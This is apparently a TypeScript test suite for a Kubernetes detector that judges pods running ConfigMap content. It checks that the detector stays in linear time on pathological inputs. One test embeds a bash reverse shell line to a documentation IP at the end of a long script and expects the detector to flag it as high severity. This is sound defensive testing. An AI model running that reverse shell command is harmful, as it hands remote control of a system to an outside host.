import assert from 'node:assert/strict';
import { test } from 'node:test';
import { activityOf, podReading } from '../facts/testing.ts';
import { growth } from '../lib/testing.ts';
import { createKnowledge } from '../memory/known.ts';
import type { JsonObject } from '../model/json.ts';
import type { ContentNote } from '../model/note.ts';
import { seen } from '../model/seen.ts';
import { assessDelivered } from './judge.ts';

const list = <T>(size: number, make: (index: number) => T): readonly T[] =>
  Array.from({ length: Math.floor(size) }, (_, index) => make(index));

/** The whole judgement of a pod beside one ConfigMap, "m". */
const judge = (data: ContentNote['data'], spec: JsonObject) => {
  const knowledge = createKnowledge();
  const object = { cluster: null, namespace: 'shop', name: 'm' };
  const origin = { at: '2026-11-24T09:00:00.000000Z', by: 'eve@example.com' };
  knowledge.learn({ kind: 'content', of: 'ConfigMap', object, origin, whole: true, data, unread: [] }, 1);
  const activity = activityOf({ readings: seen([podReading(spec)]) });
  return assessDelivered({ activity, events: [], sameIdOtherContent: 0 }, { known: knowledge });
};
const keys = list(1000, (index): [string, string] => [`k${index}`, 'date']);
const running = (command: readonly string[]): JsonObject => ({
  volumes: [{ name: 'v', configMap: { name: 'm' } }],
  containers: [{ name: 'a', command, volumeMounts: [{ name: 'v', mountPath: '/s' }] }],
});

const HOSTILE: Record<string, (size: number) => readonly [ContentNote['data'], JsonObject]> = {
  'patterns over many files': (size) => [keys, running(['sh', '-c', 'cat /s/*;'.repeat(size / 9)])],
  'a script that runs itself, many times': (size) => [
    [['run', 'sh /s/run;'.repeat(Math.min(200_000, size) / 10)]],
    running(['sh', '/s/run']),
  ],
  'scripts that run one another': (size) => [
    list(1000, (index): [string, string] => [`k${index}`, list(20, (n) => `. /s/k${(index + n) % 1000}`).join('\n')]),
    running(['sh', '-c', '. /s/k1;'.repeat(size / 8)]),
  ],
  'a variable that doubles': (size) => [
    [['x', 'y'.repeat(1000)]],
    {
      containers: [
        {
          name: 'a',
          command: ['sh', '-c', '$(v1)'],
          env: [
            { name: 'v0', valueFrom: { configMapKeyRef: { name: 'm', key: 'x' } } },
            ...list(size / 40, (index) => ({ name: `v${index + 1}`, value: `$(v${index})$(v${index})` })),
          ],
        },
      ],
    },
  ],
  'many containers that take many objects': (size) => [
    keys,
    {
      containers: list(size / 2000, (index) => ({
        name: `c${index}`,
        command: ['sh', '-c', 'eval $k1'],
        envFrom: list(40, () => ({ configMapRef: { name: 'm' } })),
      })),
    },
  ],
  'many mounts and names': (size) => [
    keys,
    {
      volumes: list(size / 100, (index) => ({ name: `v${index}`, configMap: { name: 'm' } })),
      containers: [
        {
          name: 'a',
          command: ['sh', '-c', 'cat /m/1/k1 /m/2/k2;'.repeat(size / 50)],
          volumeMounts: list(size / 100, (index) => ({ name: `v${index}`, mountPath: `/m/${index}` })),
        },
      ],
    },
  ],
};
for (const [name, make] of Object.entries(HOSTILE)) {
  test(`${name}: judged without a throw, in linear time`, () => {
    assert.doesNotThrow(() => judge(...make(1_000_000)));
    const ratio = growth((size) => judge(...make(size)), 50_000);
    assert.ok(ratio < 12, `four times the body took ${ratio.toFixed(1)} times as long`);
  });
}

test('a long script of a ConfigMap is read to its end', () => {
  const script = `${'echo one of many steps\n'.repeat(4300)}bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`;
  const { hits, severity } = judge([['run', script]], running(['bash', '/s/run']));
  assert.equal(severity, 'high', JSON.stringify(hits.map(({ indicator }) => indicator.id)));
});

test('what a limit kept from being read of another object is said of that object', () => {
  const { hits } = judge([['run', 'a;'.repeat(120_000)]], running(['bash', '/s/run']));
  const says = hits.find(({ indicator }) => indicator.id === 'command.oversized')?.evidence[0]?.says;
  assert.match(says ?? '', /runs more than was judged of it, in text from ConfigMap "m"/);
});
